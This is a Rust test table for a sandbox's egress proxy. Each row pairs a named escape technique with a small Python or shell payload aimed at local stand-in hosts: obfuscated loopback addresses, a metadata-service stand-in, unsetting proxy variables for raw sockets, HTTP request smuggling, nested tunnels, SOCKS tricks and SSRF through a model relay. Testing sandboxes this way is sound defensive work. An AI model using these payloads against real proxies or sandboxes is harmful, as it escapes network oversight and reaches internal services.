//! Rows about the way out that a command has when a person has granted it hosts: the egress proxy.
//!
//! In these scenes HUMANFILE grants one address of this machine with its port (`GRANTED`, where a server answers `works`) and
//! the name `localhost`. Every other server is one that nobody granted. `out` and `ask` are in `prelude.py`.

use crate::row::{
    Class::{Network, Work},
    Program::{Python, Shell},
    Row,
    Shows::{Heard, Works},
    row,
};

const FORMS: &str = "ways to write an address that filters of addresses do not know (OWASP, SSRF)";
const SMUGGLING: &str = "HTTP request smuggling (CWE-444)";
const PROXY: &str = "without ostk there is no proxy";

pub(super) static ROWS: &[Row] = &[
    row("egress-loopback", Network, "have the proxy connect to this machine", "CVE-2021-26855 and its kind", Python("out('127.0.0.1', TCP)")).shows(Heard).pin("egress"),
    row("egress-any", Network, "have it connect to 0.0.0.0, which is this machine", "0.0.0.0 day (Oligo, 2024)", Python("out('0.0.0.0', TCP)")).shows(Heard).pin("egress"),
    row("egress-rebinding", Network, "have it connect to a granted name that leads to this machine", "DNS rebinding", Python("out('localhost', TCP)")).shows(Heard).pin("egress"),
    row("egress-name-with-dot", Network, "have it connect to a granted name with a dot behind it", "DNS rebinding", Python("out('LocalHost.', TCP)")).shows(Heard).pin("egress"),
    row("egress-six", Network, "have it connect to this machine over IPv6", FORMS, Python("out('[::1]', TCP6)")).shows(Heard).pin("egress"),
    row("egress-zone", Network, "the same with a zone behind the address", FORMS, Python("out('[::1%lo]', TCP6)")).shows(Heard).pin("egress"),
    row("egress-mapped", Network, "have it connect to an IPv4 address in an IPv6 one", FORMS, Python("out('[::ffff:127.0.0.1]', TCP)")).shows(Heard).pin("egress"),
    row("egress-mapped-hexadecimal", Network, "the same in hexadecimal", FORMS, Python("out('[::ffff:7f00:1]', TCP)")).shows(Heard).pin("egress"),
    row("egress-decimal", Network, "have it connect to an address as one number", FORMS, Python("out('2130706433', TCP)")).shows(Heard).pin("egress"),
    row("egress-octal", Network, "have it connect to an address in octal", FORMS, Python("out('0177.0.0.1', TCP)")).shows(Heard).pin("egress"),
    row("egress-hexadecimal", Network, "have it connect to an address in hexadecimal", FORMS, Python("out('0x7f000001', TCP)")).shows(Heard).pin("egress"),
    row("egress-short", Network, "have it connect to an address with parts left out", FORMS, Python("out('127.1', TCP)")).shows(Heard).pin("egress"),
    row("egress-metadata", Network, "have it reach a cloud's metadata service (a stand-in for 169.254.169.254 on loopback)", "Capital One (2019)", Python("out('127.169.254.169', METADATA)")).shows(Heard).pin("egress"),
    row("egress-other-port", Network, "have it connect to another port of the granted address", "grants of hosts without ports", Python("out(GRANTED, OTHER_PORT)")).shows(Heard).pin("egress"),
    row("egress-unset", Network, "leave the variables of the proxy out and connect", "cooperating proxies are a suggestion", Shell("unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy; /usr/bin/python3 -c \"import socket, os; socket.create_connection(('127.0.0.1', int(os.environ['TCP'])), 2).send(os.environ['NONCE'].encode())\"")).shows(Heard).pin("egress"),
    row("egress-unset-granted-address", Network, "connect to another port of the granted address without the proxy", "cooperating proxies are a suggestion", Python("socket.create_connection((GRANTED, OTHER_PORT), 2).send(NONCE.encode())")).shows(Heard).pin("egress"),
    row("egress-udp", Network, "send over UDP beside the proxy, as QUIC does", "proxies that know TCP only", Python("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'\\xc0\\0\\0\\0\\1' + NONCE.encode(), ('127.0.0.1', UDP))")).shows(Heard).pin("egress"),
    row("egress-redirect", Network, "follow a redirect from a granted host to another", "SSRF by redirect", Python("import urllib.request\nfor name in ('NO_PROXY', 'no_proxy'): os.environ.pop(name, None)\nprint(urllib.request.urlopen(f'http://{GRANTED}:{GRANTED_PORT}/away/{TCP}', timeout=3).read())")).shows(Heard).pin("egress"),
    row("egress-plain", Network, "send a plain request to a host that is not granted", "CVE-2025-66479 (sandbox-runtime)", Python("ask(f'GET http://127.0.0.1:{TCP}/{NONCE} HTTP/1.1\\r\\nHost: 127.0.0.1:{TCP}\\r\\n\\r\\n', TCP)")).shows(Heard).pin("egress"),
    row("egress-websocket", Network, "open a WebSocket to a host that is not granted", "upgrades that a proxy passes unread", Python("ask(f'GET http://127.0.0.1:{TCP}/{NONCE} HTTP/1.1\\r\\nHost: 127.0.0.1:{TCP}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n', TCP)")).shows(Heard).pin("egress"),
    row("egress-user", Network, "name the granted host as the user of another", "URL parsers that disagree", Python("ask(f'GET http://{GRANTED}:{GRANTED_PORT}@127.0.0.1:{TCP}/{NONCE} HTTP/1.1\\r\\nHost: {GRANTED}:{GRANTED_PORT}\\r\\n\\r\\n', TCP)")).shows(Heard).pin("egress"),
    row("egress-fragment", Network, "hide the granted host in the fragment of another", "URL parsers that disagree", Python("ask(f'GET http://127.0.0.1:{TCP}#@{GRANTED}:{GRANTED_PORT}/{NONCE} HTTP/1.1\\r\\nHost: 127.0.0.1:{TCP}\\r\\n\\r\\n', TCP)")).shows(Heard).pin("egress"),
    row("egress-backslash", Network, "put a backslash between two hosts", "URL parsers that disagree", Python("ask(f'GET http://127.0.0.1:{TCP}\\\\@{GRANTED}:{GRANTED_PORT}/{NONCE} HTTP/1.1\\r\\nHost: {GRANTED}:{GRANTED_PORT}\\r\\n\\r\\n', TCP)")).shows(Heard).pin("egress"),
    row("egress-host-header", Network, "name another host in the header than in the request", "domain fronting", Python("ask(f'GET http://{GRANTED}:{GRANTED_PORT}/ HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n')")).shows(Heard).pin("egress").unshown(PROXY),
    row("egress-two-hosts", Network, "send two Host headers", SMUGGLING, Python("ask(f'GET http://{GRANTED}:{GRANTED_PORT}/ HTTP/1.1\\r\\nHost: {GRANTED}:{GRANTED_PORT}\\r\\nHost: other.example\\r\\n\\r\\n')")).shows(Heard).pin("egress").unshown(PROXY),
    row("egress-pipelined", Network, "send a second request for another host behind the first", SMUGGLING, Python("ask(f'GET http://{GRANTED}:{GRANTED_PORT}/ HTTP/1.1\\r\\nHost: {GRANTED}:{GRANTED_PORT}\\r\\n\\r\\nGET http://127.0.0.1:{TCP}/{NONCE} HTTP/1.1\\r\\nHost: 127.0.0.1:{TCP}\\r\\n\\r\\n')")).shows(Heard).pin("egress").unshown(PROXY),
    row("egress-kept", Network, "keep the connection and ask for another host when the first has answered", SMUGGLING, Python("s = ask(f'GET http://{GRANTED}:{GRANTED_PORT}/ HTTP/1.1\\r\\nHost: {GRANTED}:{GRANTED_PORT}\\r\\nConnection: keep-alive\\r\\nProxy-Connection: keep-alive\\r\\n\\r\\n'); s.send(f'GET http://127.0.0.1:{TCP}/{NONCE} HTTP/1.1\\r\\nHost: 127.0.0.1:{TCP}\\r\\n\\r\\n'.encode()); print(s.recv(400))")).shows(Heard).pin("egress").unshown(PROXY),
    row("egress-length-and-chunks", Network, "send a body whose end two readers see in two places", SMUGGLING, Python("ask(f'POST http://{GRANTED}:{GRANTED_PORT}/ HTTP/1.1\\r\\nHost: {GRANTED}:{GRANTED_PORT}\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:{TCP}/{NONCE} HTTP/1.1\\r\\nHost: 127.0.0.1:{TCP}\\r\\n\\r\\n')")).shows(Heard).pin("egress").unshown(PROXY),
    row("egress-line-ends", Network, "end a header where only some readers see an end", SMUGGLING, Python("ask(f'GET http://{GRANTED}:{GRANTED_PORT}/ HTTP/1.1\\r\\nHost: {GRANTED}:{GRANTED_PORT}\\r\\nX: a\\n\\nGET http://127.0.0.1:{TCP}/{NONCE} HTTP/1.1\\r\\nHost: 127.0.0.1:{TCP}\\r\\n\\r\\n')")).shows(Heard).pin("egress").unshown(PROXY),
    row("egress-tunnel-again", Network, "ask for a second tunnel inside of the first", SMUGGLING, Python("s = ask(f'CONNECT {GRANTED}:{GRANTED_PORT} HTTP/1.1\\r\\n\\r\\n'); s.send(f'CONNECT 127.0.0.1:{TCP} HTTP/1.1\\r\\n\\r\\n{NONCE}'.encode()); print(s.recv(400))")).shows(Heard).pin("egress").unshown(PROXY),
    row("egress-socks", Network, "have it connect by SOCKS5 to an address", "proxies with two doors", Python("socks(1, b'\\x01' + bytes([127, 0, 0, 1]), TCP)")).shows(Heard).pin("egress"),
    row("egress-socks-six", Network, "have it connect by SOCKS5 to a mapped address", "proxies with two doors", Python("socks(1, b'\\x04' + bytes(10) + b'\\xff\\xff' + bytes([127, 0, 0, 1]), TCP)")).shows(Heard).pin("egress"),
    row("egress-socks-name", Network, "have it connect by SOCKS5 to an address written as a name", "proxies with two doors", Python("socks(1, b'\\x03\\x0a2130706433', TCP)")).shows(Heard).pin("egress"),
    row("egress-socks-name-with-zero", Network, "have it connect by SOCKS5 to a name with a zero byte in it", "curl CVE-2023-38545 and its kind", Python("name = b'127.0.0.1\\0.' + GRANTED.encode(); socks(1, b'\\x03' + bytes([len(name)]) + name, TCP)")).shows(Heard).pin("egress"),
    row("egress-socks-udp", Network, "have it pass on datagrams by SOCKS5", "proxies with two doors", Python("socks(3, b'\\x01' + bytes([127, 0, 0, 1]), UDP, datagram=True)")).shows(Heard).pin("egress"),
    row("egress-socks-bind", Network, "have it listen outside by SOCKS5", "proxies with two doors", Python("socks(2, b'\\x01' + bytes([127, 0, 0, 1]), DOOR, listen=True)")).shows(Heard).pin("egress"),
    row("egress-socks-four", Network, "have it connect by SOCKS4", "proxies with two doors", Python("s = proxy() or socket.create_connection(('127.0.0.1', TCP), 2); s.send(b'\\x04\\x01' + struct.pack('!H', TCP) + bytes([127, 0, 0, 1]) + b'\\0'); print(s.recv(40) if proxy() else ''); s.send(NONCE.encode())")).shows(Heard).pin("egress"),
    row("egress-relay", Network, "have the relay for models send a request elsewhere", "SSRF through a model gateway", Python("relay(f'POST http://127.0.0.1:{TCP}/{NONCE} HTTP/1.1\\r\\nHost: 127.0.0.1:{TCP}\\r\\nContent-Length: 2\\r\\n\\r\\n{{}}', TCP)")).shows(Heard).pin("egress"),
    row("egress-relay-path", Network, "the same by a path that begins like a host", "SSRF through a model gateway", Python("relay(f'POST //127.0.0.1:{TCP}/anthropic/../{NONCE} HTTP/1.1\\r\\nHost: 127.0.0.1:{TCP}\\r\\nContent-Length: 2\\r\\n\\r\\n{{}}', TCP)")).shows(Heard).pin("egress"),
    row("work-egress", Work, "reach the granted host by the proxy, in a plain request, a tunnel and by SOCKS5", "must succeed", Python("r = f'GET http://{GRANTED}:{GRANTED_PORT}/ HTTP/1.1\\r\\nHost: {GRANTED}:{GRANTED_PORT}\\r\\n\\r\\n'\ng = f'GET / HTTP/1.1\\r\\nHost: {GRANTED}:{GRANTED_PORT}\\r\\n\\r\\n'.encode()\nseen = []\nfor how in ('plain', 'tunnel', 'socks'):\n    s = proxy() or socket.create_connection((GRANTED, GRANTED_PORT), 2)\n    through = proxy() is not None\n    if how == 'tunnel' and through:\n        s.send(f'CONNECT {GRANTED}:{GRANTED_PORT} HTTP/1.1\\r\\n\\r\\n'.encode()); s.recv(200)\n    if how == 'socks' and through:\n        s.send(b'\\x05\\x01\\0'); s.recv(2); s.send(b'\\x05\\x01\\0\\x01' + socket.inet_aton(GRANTED) + struct.pack('!H', GRANTED_PORT)); s.recv(10)\n    s.send(r.encode() if how == 'plain' and through else g)\n    text = b''\n    while part := s.recv(400): text += part\n    seen.append(b'works' in text)\nprint(seen)\nif all(seen): open(W + '/proof', 'w').write('works')")).shows(Works).pin("egress"),
];
